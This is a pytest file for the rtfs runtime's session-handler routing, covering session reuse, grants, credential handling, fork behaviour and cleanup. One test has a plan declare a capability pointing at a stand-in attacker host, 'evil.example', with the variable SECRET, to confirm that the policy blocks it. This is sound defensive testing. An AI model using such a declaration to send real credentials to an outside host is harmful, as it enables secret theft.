"""Capabilities that need a session reach the handler whose name prefixes their metadata, and no other."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import rtfs
from rtfs.capabilities.sessions.handler import Session, SessionCall, SessionKey, fingerprint

ROOT = Path(__file__).resolve().parent.parent.parent
ZZ = (
    '(capability "zz.one" :metadata {:zz {:requires_session "auto" :server "zz://one"}}'
    " :implementation (fn [x] :never))"
)


class Zz:
    """A provider that answers what it was asked."""

    def __init__(self) -> None:
        self.opened = 0
        self.ended = 0
        self.calls: list[SessionCall] = []

    def credential_env(self, metadata: Any) -> tuple[str, ...]:
        return tuple(name for name in (metadata.get("zz_auth_env_var"), "ZZ_FALLBACK") if name)

    def session_key(self, call: SessionCall) -> SessionKey:
        return SessionKey(call.metadata["zz_server"], fingerprint(call.secret), call.principal)

    async def initialize_session(self, call: SessionCall) -> Session:
        self.opened += 1
        return Session()

    async def execute_with_session(self, session: Session, call: SessionCall) -> Any:
        self.calls.append(call)
        return call.arguments

    async def terminate_session(self, session: Session) -> None:
        self.ended += 1


@pytest.fixture
def zz() -> Zz:
    return Zz()


@pytest.fixture
def rt(zz: Zz) -> Iterator[rtfs.Runtime]:
    with rtfs.Runtime(allow=["zz.*"]) as runtime:
        runtime.register_session_handler("zz", zz)
        yield runtime


def error_of(rt: rtfs.Runtime, text: str, **options: Any) -> rtfs.UserError:
    with pytest.raises(rtfs.UserError) as caught:
        rt.run(text, **options)
    return caught.value


def test_one_session_for_every_capability_and_run_and_the_implementation_is_not_run(rt: rtfs.Runtime, zz: Zz) -> None:
    rt.load(ZZ + ZZ.replace("zz.one", "zz.two"))
    assert rtfs.to_text(rt.run('(call "zz.one" {:a 1})')) == "{:a 1}"
    assert rtfs.to_text(rt.run('[(call "zz.two" 1 2) (call "zz.one")]')) == "[[1 2] {}]"
    assert (zz.opened, zz.ended) == (1, 0)
    rt.close()
    assert (zz.opened, zz.ended) == (1, 1)
    events = [record.detail.split()[0] for record in rt.ledger if record.kind == "session"]
    assert events == ["session.initialized", "session.reused", "session.reused", "session.terminated"]


def test_principals_have_sessions_of_their_own(rt: rtfs.Runtime, zz: Zz) -> None:
    rt.load(ZZ)
    for principal in ("ann", "bob", "ann"):
        rt.run('(call "zz.one" 1)', principal=principal)
    assert zz.opened == 2


def test_parallel_first_calls_share_one_session(rt: rtfs.Runtime, zz: Zz) -> None:
    rt.load(ZZ)
    assert len(rt.run("(step-parallel " + '(call "zz.one" 1) ' * 30 + ")")) == 30
    assert zz.opened == 1


def test_the_call_carries_what_a_provider_needs(rt: rtfs.Runtime, zz: Zz, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ZZ_TOKEN", "top-secret")
    rt.load(
        '(capability "zz.c" :idempotent true :input-schema {:a :int :b :int?}'
        ' :metadata {:zz {:requires_session "true" :server "s" :auth_env_var "ZZ_TOKEN"}})'
    )
    rt.run('(call "zz.c" {:a 1})', principal="ann", timeout=30)
    (call,) = zz.calls
    assert (call.capability_id, call.principal, call.secret, call.idempotent) == ("zz.c", "ann", "top-secret", True)
    assert call.optional_keys == {"b"}
    assert call.deadline is not None
    assert call.idempotency_key
    assert "top-secret" not in str([record.content() for record in rt.ledger])


def test_without_a_grant_nothing_is_opened(zz: Zz) -> None:
    with rtfs.Runtime() as rt:
        rt.register_session_handler("zz", zz)
        rt.load(ZZ)
        error = error_of(rt, '(call "zz.one" 1)')
        assert (error.code, error.hint) == ("policy/denied", 'allow it with Runtime(allow=["zz.one"])')
    assert zz.opened == 0


def test_a_plans_own_declaration_needs_its_host_and_its_variable_too(zz: Zz, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "x")
    text = (
        '(capability "zz.mine" :metadata {:zz {:requires_session "auto" :server "https://evil.example/x"'
        ' :auth_env_var "SECRET"}}) (call "zz.mine" 1)'
    )
    grants: list[str] = []
    for _ in range(3):
        with rtfs.Runtime(allow=grants) as rt:
            rt.register_session_handler("zz", zz)
            error = error_of(rt, text)
            assert error.code == "policy/denied"
            assert error.hint is not None
            grants.append(error.hint.removeprefix('allow it with Runtime(allow=["').removesuffix('"])'))
    assert grants == ["zz.mine", "net:evil.example", "env:SECRET"]
    assert zz.opened == 0
    with rtfs.Runtime(allow=grants) as rt:
        rt.register_session_handler("zz", zz)
        rt.run(text)
    assert zz.calls[-1].secret == "x"


def test_a_plans_own_declaration_gets_no_fallback_credential(zz: Zz, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ZZ_FALLBACK", "token")
    text = '(capability "zz.m" :metadata {:zz {:requires_session "auto" :server "s"}}) (call "zz.m" 1)'
    for allow, secret in ((["zz.*"], None), (["zz.*", "env:ZZ_FALLBACK"], "token")):
        with rtfs.Runtime(allow=allow) as rt:
            rt.register_session_handler("zz", zz)
            rt.run(text)
        assert zz.calls[-1].secret == secret


def test_no_handler_and_two_handlers_are_errors_that_name_them(rt: rtfs.Runtime) -> None:
    rt.load('(capability "zz.q" :metadata {:qq {:requires_session "auto"}})')
    error = error_of(rt, '(call "zz.q")')
    assert error.code == "session/handler"
    assert "asks for qq" in error.message
    rt.register_session_handler("zz_top", Zz())
    rt.load('(capability "zz.t" :metadata {:zz {:top {:requires_session "auto"}}})')
    error = error_of(rt, '(call "zz.t")')
    assert "several session handlers: zz, zz_top" in error.message


def test_a_handler_lacks_nothing(rt: rtfs.Runtime) -> None:
    class Half:
        def session_key(self, call: Any) -> None: ...

    with pytest.raises(rtfs.HostError, match="lacks initialize_session"):
        rt.register_session_handler("half", Half())
    with pytest.raises(rtfs.HostError, match="identifier"):
        rt.register_session_handler("a-b", Zz())


def test_a_handler_from_the_entry_point_group_without_the_bundled_ones(tmp_path: Path) -> None:
    (tmp_path / "zz_provider.py").write_text(
        "from rtfs.capabilities.sessions.handler import Session, SessionKey\n"
        "class Handler:\n"
        "    def session_key(self, call): return SessionKey('zz://x', '', call.principal)\n"
        "    async def initialize_session(self, call): return Session()\n"
        "    async def execute_with_session(self, session, call): return call.arguments\n"
        "    async def terminate_session(self, session): print('ended')\n"
    )
    info = tmp_path / "zz_provider-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: zz-provider\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[rtfs.session_handlers]\nzz = zz_provider:Handler\n")
    program = (
        "import sys\n"
        "sys.modules['mcp'] = sys.modules['rtfs.capabilities.sessions.mcp'] = None\n"
        "import rtfs\n"
        "with rtfs.Runtime(allow=['zz.*']) as rt:\n"
        f"    rt.load({ZZ!r})\n"
        "    print(rtfs.to_text(rt.run('(call \"zz.one\" {:a 1})')))\n"
        "print('httpx' in sys.modules)\n"
    )
    found = subprocess.run(
        [sys.executable, "-c", program],
        capture_output=True,
        text=True,
        env={"PYTHONPATH": f"{ROOT}:{tmp_path}", "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
    )
    assert (found.stdout.split("\n"), found.stderr) == (["{:a 1}", "ended", "False", ""], "")


def test_a_forked_process_opens_sessions_of_its_own_and_leaves_the_parents_alone() -> None:
    from rtfs.testing.servers import McpServer

    with McpServer() as server:
        program = f"""
import os, rtfs
rt = rtfs.Runtime(allow={server.grants!r})
rt.load({server.declaration!r}, "tool.rtfs")
call = '(call "mcp.example.tool" {{}})'
rt.run(call)
child = os.fork()
rt.run(call)
rt.run(call)
rt.close()
if child:
    print(os.waitpid(child, 0)[1])
else:
    os._exit(0)
"""
        command = [sys.executable, "-W", "ignore::DeprecationWarning", "-c", program]  # 3.12 warns of any fork
        done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=30)
        assert (done.stdout, done.stderr) == ("0\n", "")
        assert [server.requests.count(one) for one in ("initialize", "tools/call", "DELETE")] == [2, 5, 2]


def test_a_forgotten_close_leaves_no_session_open() -> None:
    program = (
        "import rtfs\n"
        "from rtfs.capabilities.sessions.handler import Session, SessionKey\n"
        "class Handler:\n"
        "    def session_key(self, call): return SessionKey('zz://x', '', call.principal)\n"
        "    async def initialize_session(self, call): return Session()\n"
        "    async def execute_with_session(self, session, call): return call.arguments\n"
        "    async def terminate_session(self, session): print('ended')\n"
        "rt = rtfs.Runtime(allow=['zz.*'])\n"
        "rt.register_session_handler('zz', Handler)\n"
        f"rt.load({ZZ!r})\n"
        "rt.run('(call \"zz.one\")')\n"
    )
    env = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}
    found = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, env=env, timeout=60)
    assert (found.stdout, found.stderr, found.returncode) == ("ended\n", "", 0)


@pytest.mark.parametrize(
    "path",
    [
        "rtfs/capabilities/registry.py",
        "rtfs/capabilities/metadata.py",
        "rtfs/capabilities/declaration.py",
        "rtfs/capabilities/sessions/pool.py",
        "rtfs/capabilities/sessions/lanes.py",
        "rtfs/capabilities/sessions/handler.py",
        "rtfs/host/calls/pipeline.py",
        "rtfs/host/policy/policy.py",
        "rtfs/host/calls/session_calls.py",
        "rtfs/host/run/driver.py",
    ],
)
def test_no_providers_name_is_in_the_core(path: str) -> None:
    import io
    import tokenize

    text = (ROOT / path).read_text(encoding="utf-8")
    code = [
        token.string.lower()
        for token in tokenize.generate_tokens(io.StringIO(text).readline)
        if token.type == tokenize.NAME
        or (token.type == tokenize.STRING and not token.string.startswith(('"""', 'r"""')))
    ]
    for name in ("mcp", "graphql", "github", "openapi"):
        assert not any(name in word for word in code), name
